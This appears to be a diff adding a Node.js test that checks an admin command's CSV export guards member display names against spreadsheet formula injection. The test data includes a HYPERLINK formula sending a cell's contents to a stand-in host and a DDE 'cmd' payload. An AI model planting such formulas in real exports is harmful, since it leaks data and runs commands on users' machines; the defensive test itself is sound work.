@@ -12,7 +12,7 @@ const assert = require('node:assert/strict');
 const fs = require('node:fs');
 const path = require('node:path');
 const { spawnSync } = require('node:child_process');
-const { env, Client, createMember, sql, sqlValue } = require('../support/harness');
+const { env, Client, createMember, sql, sqlValue, q } = require('../support/harness');
 const { readConf } = require('../support/env');
 const { stackLogs } = require('../support/recovery');
 
@@ -151,6 +151,32 @@ test('D17: issue-initial writes a new 0600 UTF-8 CSV, one audit row per member, 
   assert.ok(left > ttl - 120 && left <= ttl, `expires in ${left} s`);
   assert.deepEqual(sql(`SELECT event, outcome, detail FROM audit_events WHERE member_id = ${member.member_id} AND event = 'admin_action'`),
     [['admin_action', 'initial_password_issued', `ttl_seconds=${ttl}`]]);
+});
+
+// The display names are the insurer's data: a cell that starts with = + - @,
+// a tab or a CR is a formula once the sysadmin opens the CSV in a
+// spreadsheet (CSV injection, OWASP). Such a cell is quoted with a single
+// quote in front; a name with the same characters further in stays as it is.
+test('D17: issue-initial guards display names a spreadsheet would run as formulas (CSV injection)', async () => {
+  const names = [
+    ['=HYPERLINK("https://evil.example/?"&A2,"詳細")', '"\'=HYPERLINK(""https://evil.example/?""&A2,""詳細"")"'],
+    ['+81 3 1234 5678', '"\'+81 3 1234 5678"'],
+    ['-2+3+cmd|\' /C calc\'!A0', '"\'-2+3+cmd|\' /C calc\'!A0"'],
+    ['@SUM(1+1)*cmd', '"\'@SUM(1+1)*cmd"'],
+    ['\t=1+1', '"\'\t=1+1"'],
+    ['\r=1+1', '"\'\r=1+1"'],
+    ['山田=花子', '山田=花子'],
+  ];
+  for (const [name, cell] of names) {
+    const member = createMember({ logged_in: false, email: null });
+    sql(`UPDATE members SET display_name = ${q(name)} WHERE member_id = ${member.member_id}`);
+    const file = outFile();
+    const run = admin(['member', 'issue-initial', '--login-id', member.login_id, '--out', file]);
+    assert.equal(run.status, 0, run.stderr);
+    const text = fs.readFileSync(file, 'utf8');
+    assert.ok(text.startsWith(`${CSV_HEADER}\r\n${member.login_id},${cell},`),
+      `${JSON.stringify(name)} is written as ${JSON.stringify(cell)}: ${JSON.stringify(text.split('\r\n')[1])}`);
+  }
 });
 
 test('D17: issue-initial never overwrites a file: exit 73, the file and every member unchanged', async () => {
